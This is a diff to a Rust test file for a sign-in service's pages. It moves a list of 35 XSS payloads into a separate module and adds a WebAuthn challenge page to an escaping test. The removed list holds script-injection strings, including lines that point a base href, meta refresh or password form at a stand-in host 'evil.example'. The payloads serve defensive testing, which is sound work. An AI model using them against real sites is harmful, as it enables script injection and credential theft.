@@ -1,6 +1,10 @@
 //! No page lets a value become markup.
 
+mod payloads;
+
 use std::path::Path;
+
+use payloads::PAYLOADS;
 
 use super::*;
 use crate::domain::branding::Branding;
@@ -18,44 +22,6 @@ use crate::flows::sign_in::recovery::RecoveryPage;
 use crate::flows::sign_in::reply::Page as SignInPage;
 use crate::flows::sign_in::sign_up::{SignUpError, SignUpField, SignUpPage};
 use crate::texts::Preferences;
-
-const PAYLOADS: [&str; 35] = [
-    "\u{2069}</bdi>\u{2068}<bdi>",
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "\"><script>alert(1)</script>",
-    "'><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "\"><img src=x onerror=alert(1)>",
-    "'\"><svg/onload=alert(1)>",
-    "<svg><script>alert&#40;1&#41;</script></svg>",
-    "\" onfocus=\"alert(1)\" autofocus=\"",
-    "' onmouseover='alert(1)",
-    "\" style=\"position:fixed\" x=\"",
-    "\" formaction=\"javascript:alert(1)",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "--!><script>alert(1)</script>",
-    "]]><script>alert(1)</script>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<base href=\"https://evil.example/\">",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
-    "<form action=https://evil.example/><input name=password>",
-    "</form><form action=\"https://evil.example/\">",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#34;&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
-    "&quot; onfocus=&quot;alert(1)",
-    "<scr\0ipt>alert(1)</scr\0ipt>",
-    "\u{ff1c}script\u{ff1e}alert(1)<\u{2028}script>",
-    "`-alert(1)-`<x y=`",
-    "{{ state }}{% raw %}<b>${7*7}",
-    "\r\n\r\n<script>alert(1)</script>",
-    "\\u003cscript\\u003ealert(1)\\\"><x>",
-];
 
 /// Every page with `value` in all its string fields.
 fn pages(value: &str) -> Vec<(&'static str, String)> {
@@ -303,6 +269,17 @@ fn pages(value: &str) -> Vec<(&'static str, String)> {
         (
             "mfa-recovery-code-challenge-new-code",
             factor(FactorScreen::RecoveryCodeNew { code: text() }, None),
+        ),
+        (
+            "mfa-webauthn-roaming-challenge",
+            factor(
+                FactorScreen::Webauthn {
+                    page: SignInPage::SecurityKeyChallenge,
+                    options: serde_json::json!({ "rpId": text() }),
+                    is_offer: false,
+                },
+                Some("webauthn-challenge-error"),
+            ),
         ),
         (
             "mfa-login-options",
